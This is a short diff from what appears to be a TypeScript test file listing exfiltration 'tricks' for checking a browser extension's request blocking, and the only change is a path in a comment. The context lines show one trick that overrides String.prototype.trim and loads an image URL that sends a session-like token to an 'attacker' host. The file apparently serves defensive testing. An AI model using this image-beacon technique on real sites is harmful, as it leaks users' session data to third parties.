@@ -46,7 +46,7 @@ const TRICKS: Trick[] = [
       String.prototype.trim = () => '';
       const img = new Image();
       // Carries more than a dependency load to a site the task does not name may (issue 37: a load with no
-      // session data is a page's dependency and loads; src/background/dnr.ts, MAX_DEPENDENCY_PATH).
+      // session data is a page's dependency and loads; src/background/floor/dnr.ts, MAX_DEPENDENCY_PATH).
       img.src = `${attacker}/trim/${'t482913-session-'.repeat(7)}.gif`;
       document.body.append(img);
     },
